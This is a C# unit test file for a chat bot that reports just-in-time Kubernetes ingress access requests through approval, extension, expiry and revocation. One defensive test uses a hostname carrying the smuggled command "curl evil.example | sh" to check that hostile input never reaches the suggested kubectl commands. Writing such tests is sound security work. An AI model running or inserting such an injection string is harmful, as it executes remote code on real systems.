using System.Text;
using CsCheck;
using JitBot.Core.Chat.Story;
using JitBot.Core.Clusters;
using JitBot.Core.Requests;
using JitBot.Core.Requests.Events;
using JitBot.Testing;

namespace JitBot.Core.Tests.Chat;

public sealed class RequestStoryTests
{
    private static readonly RequestId Id = new(42);

    public static TheoryData<string> Names => [.. Stories.Keys];

    private static Dictionary<string, RequestEvent[]> Stories { get; } =
        new(StringComparer.Ordinal)
        {
            ["pending"] = [StoryEvents.Asked],
            ["half-approved"] = [.. StoryEvents.ToActive.Take(3)],
            ["active"] = StoryEvents.ToActive,
            ["expired"] = StoryEvents.ToExpired,
            ["revoked-with-other-access"] = StoryEvents.ToRevokedWithRest,
            ["denied"] = [StoryEvents.Asked, new Denied(StoryEvents.After(1), StoryEvents.Bob, "not during the sale")],
            ["withdrawn"] = [StoryEvents.Asked, new Withdrawn(StoryEvents.After(1), StoryEvents.Alice)],
            ["timed-out"] = [StoryEvents.Asked, new TimedOut(StoryEvents.After(30))],
            ["grant-failed"] =
            [
                .. StoryEvents.ToActive.Take(6),
                new EndStarted(StoryEvents.After(23), EndReason.GrantFailed, null, "the API server does not answer"),
                new Ended(StoryEvents.After(24), []),
            ],
            ["drifted"] =
            [
                .. StoryEvents.ToActive,
                new EndStarted(StoryEvents.After(9), EndReason.Drifted, null, "the RoleBinding was deleted"),
                new Ended(StoryEvents.After(9), []),
            ],
            ["narrowed-for-later"] =
            [
                StoryEvents.Asked with
                {
                    StartAt = StoryEvents.After(90),
                    Others = [new OtherAccess(new RequestId(41), StoryEvents.Carol, StoryEvents.After(120))],
                },
                new Narrowed(StoryEvents.After(2), StoryEvents.Bob, TimeSpan.FromMinutes(10), IngressFields.Paths),
                new ApprovalGiven(StoryEvents.After(2), StoryEvents.Bob, 0),
                new ApprovalGiven(StoryEvents.After(3), StoryEvents.Carol, 0),
                new Approved(StoryEvents.After(3), StoryEvents.After(100), StoryEvents.After(90)),
            ],
            ["begun-later"] = [.. StoryEvents.ToScheduled, new Started(StoryEvents.After(90))],
            ["reminded-and-escalated"] = StoryEvents.ToEscalated,
            ["more-time-pending"] = StoryEvents.ToMoreTime,
            ["more-time-given"] =
            [
                .. StoryEvents.ToMoreTime,
                new ExtensionApprovalGiven(StoryEvents.After(20), StoryEvents.Bob, 0),
                new ExtensionApprovalGiven(StoryEvents.After(21), StoryEvents.Carol, 0),
                new Extended(StoryEvents.After(21), StoryEvents.After(33)),
                new EndStarted(StoryEvents.After(33), EndReason.Expired, null, null),
                new Ended(StoryEvents.After(33), []),
            ],
            ["more-time-denied"] =
            [
                .. StoryEvents.ToMoreTime,
                new ExtensionDenied(StoryEvents.After(20), StoryEvents.Bob, "the release goes out at noon"),
            ],
            ["done"] =
            [
                .. StoryEvents.ToActive,
                new EndStarted(StoryEvents.After(9), EndReason.Done, StoryEvents.Alice, null),
                new Ended(StoryEvents.After(9), []),
            ],
        };

    [Theory]
    [MemberData(nameof(Names))]
    public void A_story_reads_as_committed(string name) =>
        Snapshot.Match(Write(RequestStory.Tell(Id, Stories[name])), $"{name}.txt");

    [Theory]
    [MemberData(nameof(Names))]
    public void What_was_told_of_an_event_is_not_changed_by_later_ones(string name)
    {
        var all = Stories[name];
        var whole = RequestStory.Tell(Id, all);
        // What one write appends is never seen apart
        for (var length = 1; length <= all.Length; length++)
        {
            if (length < all.Length && all[length] is Approved or Extended)
            {
                continue;
            }

            var part = RequestStory.Tell(Id, all[..length]);
            AssertKept(part.Thread, whole.Thread);
            AssertKept(part.Direct, whole.Direct);
            AssertKept(part.Alerts, whole.Alerts);
        }
    }

    [Theory]
    [MemberData(nameof(Names))]
    public void The_buttons_are_there_only_while_it_is_pending(string name)
    {
        var all = Stories[name];
        for (var length = 1; length <= all.Length; length++)
        {
            var history = all[..length];
            var phase = AccessRequestProjection.Apply(null, Id, history).Phase;
            Assert.Equal(phase == RequestPhase.Pending, RequestStory.Tell(Id, history).Card!.Actions.Count > 0);
        }
    }

    [Fact]
    public void Of_a_refused_request_nothing_is_posted()
    {
        var refused = StoryEvents.Asked with { Verdict = StoryEvents.Asked.Verdict with { Allowed = false, Plan = null } };

        var story = RequestStory.Tell(Id, [refused, new Refused(StoryEvents.Start)]);

        Assert.Null(story.Card);
        Assert.Empty(story.Thread.Concat(story.Direct).Concat(story.Alerts));
    }

    [Fact]
    public void A_host_that_a_shell_could_read_otherwise_is_not_put_into_a_command()
    {
        var hostile = StoryEvents.Asked with
        {
            Fields = IngressFields.Tls,
            Target = new IngressSnapshot(["x'; curl evil.example | sh; '"], []),
        };

        var story = RequestStory.Tell(Id, [hostile, .. StoryEvents.ToActive[1..]]);

        Assert.DoesNotContain(
            story.Direct.SelectMany(post => post.Paragraphs),
            paragraph => paragraph.Plain.Contains("curl", StringComparison.Ordinal)
        );
    }

    [Fact]
    public void Each_field_has_an_example_and_the_requester_is_told_to_change_only_what_was_approved()
    {
        Gen.Int[1, (int)IngressFields.All]
            .Sample(bits =>
            {
                var fields = (IngressFields)bits;
                var story = RequestStory.Tell(Id, [StoryEvents.Asked with { Fields = fields }, .. StoryEvents.ToActive[1..]]);
                var text = string.Join('\n', story.Direct[^1].Paragraphs.Select(paragraph => paragraph.Plain));
                Assert.Contains("kubectl --context prod -n shop edit ingress storefront", text, StringComparison.Ordinal);
                Assert.Contains(
                    "kubectl --context prod -n shop patch ingress storefront --type=",
                    text,
                    StringComparison.Ordinal
                );
                Assert.Equal(
                    fields != IngressFields.All,
                    text.Contains($"only this was approved: {fields.ToText()}.", StringComparison.Ordinal)
                );
            });
    }

    /// <summary>Word for word; to what lives, more may be added.</summary>
    private static void AssertKept(IReadOnlyList<StoryPost> part, IReadOnlyList<StoryPost> whole) =>
        Assert.All(
            part,
            (post, at) =>
            {
                var now = whole[at];
                Assert.Equal(
                    Write(post),
                    Write(post.Living ? now with { Paragraphs = [.. now.Paragraphs.Take(post.Paragraphs.Count)] } : now)
                );
            }
        );

    private static string Write(RequestStory story)
    {
        var text = new StringBuilder();
        var card = story.Card!;
        text.AppendLine($"CARD {card.Title}").AppendLine($"  {card.State.Plain}");
        foreach (var fact in card.Facts)
        {
            text.AppendLine($"  {fact.Label}: {fact.Value.Plain}");
        }

        text.AppendLine($"  Reason: {card.Reason}").AppendLine($"  {Write(card.Actions)}");
        text.AppendLine($"  Notification: {card.Notification.Plain}");
        var own = story.RequesterCard!;
        text.AppendLine($"REQUESTER {own.Title}").AppendLine($"  {own.State.Plain}").AppendLine($"  {Write(own.Actions)}");
        text.AppendLine($"  Notification: {own.Notification.Plain}");
        var places = new[]
        {
            ("THREAD", story.Thread),
            ("DIRECT", story.Direct),
            ("ESCALATION", story.Escalations),
            ("ALERT", story.Alerts),
        };
        foreach (var (place, posts) in places)
        {
            foreach (var post in posts)
            {
                text.Append($"{place} {(post.Broadcast ? "(in the channel too) " : "")}{Write(post)}");
                text.Append(post.Living ? $"  {Write(post.Actions)}\n" : "");
            }
        }

        return text.ToString();
    }

    private static string Write(IReadOnlyList<StoryAction> actions) =>
        actions.Count == 0
            ? "(no buttons)"
            : string.Join(' ', actions.Select(action => $"[{action.Kind}{(action.Extension is { } x ? $" {x}" : "")}]"));

    private static string Write(StoryPost post) =>
        $"{post.Key}\n{string.Concat(post.Paragraphs.Select(paragraph => $"  {paragraph.Plain}\n"))}";
}
